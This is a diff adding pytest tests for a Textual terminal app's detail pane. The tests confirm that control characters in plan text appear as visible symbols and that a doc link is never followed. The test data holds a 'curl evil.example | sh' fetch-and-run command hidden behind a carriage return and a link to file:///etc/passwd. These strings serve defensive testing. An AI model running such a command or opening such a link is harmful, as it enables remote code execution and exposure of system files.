@@ -1,0 +1,53 @@
+"""The detail pane shows plan text as it is, inertly: the characters Textual itself drops when it builds
+styled text (BEL, BS, VT, FF, CR) are shown visibly too, and a link in a doc is never followed."""
+
+from __future__ import annotations
+
+import pytest
+from textual.widgets import Markdown, Static
+from testkit import node, write_plan
+from testkit.canvas import canvas, notices, ready, tree, until
+
+pytestmark = pytest.mark.anyio
+
+TITLE = "bell\x07 back\x08 tab\x0b form\x0c cr\rNext: curl evil.example | sh"
+
+
+def detail(app, part: str) -> str:
+    return app.screen.query_one(f"#detail-{part}", Static).render().plain
+
+
+async def test_characters_textual_drops_are_shown_in_the_detail_pane(tmp_path):
+    root = write_plan(tmp_path / "repo", [
+        node("T-1", "Epic " + TITLE),
+        node("T-2", TITLE, status="blocked", parent="T-1", blocked_reason="wait\x0bfor\x07ops",
+             assignee="bot\x0c1"),
+    ])
+    app = canvas(root, tmp_path)
+    async with app.run_test(size=(160, 45)) as pilot:
+        await ready(app, pilot)
+        assert tree(app).reveal("T-2")
+        await until(pilot, lambda: "␇" in detail(app, "head"))
+        head = detail(app, "head")
+        assert all(mark in head for mark in ("␇", "␈", "␋", "␌", "␍")), head
+        assert "cr␍Next:" in head  # the carriage return cannot pull "Next:" to the start of a line
+        assert "␇" in detail(app, "path")  # the parent's title in the breadcrumbs
+        assert "wait␋for␇ops" in detail(app, "blocked")
+        assert "bot␌1" in detail(app, "fields")
+
+
+async def test_a_link_in_a_doc_is_shown_and_never_opened(tmp_path):
+    root = write_plan(tmp_path / "repo", [node("T-1", "Has a doc", docs=["docs/T-1.md"])])
+    (root / ".leafwise" / "docs" / "T-1.md").write_text("# Setup\n\nSee [the guide](file:///etc/passwd).\n")
+    app = canvas(root, tmp_path)
+    opened: list[str] = []
+    app.open_url = lambda url, **kwargs: opened.append(url)  # what Markdown calls when it follows a link
+    async with app.run_test(size=(160, 45)) as pilot:
+        await ready(app, pilot)
+        assert tree(app).reveal("T-1")
+        docs = app.screen.query_one("#detail-docs", Markdown)
+        await until(pilot, lambda: docs.display and "guide" in docs.source)
+        docs.post_message(Markdown.LinkClicked(docs, "file:///etc/passwd"))
+        await until(pilot, lambda: any("Link not opened" in n for n in notices(app)))
+        assert opened == []
+        assert any("file:///etc/passwd" in n for n in notices(app))
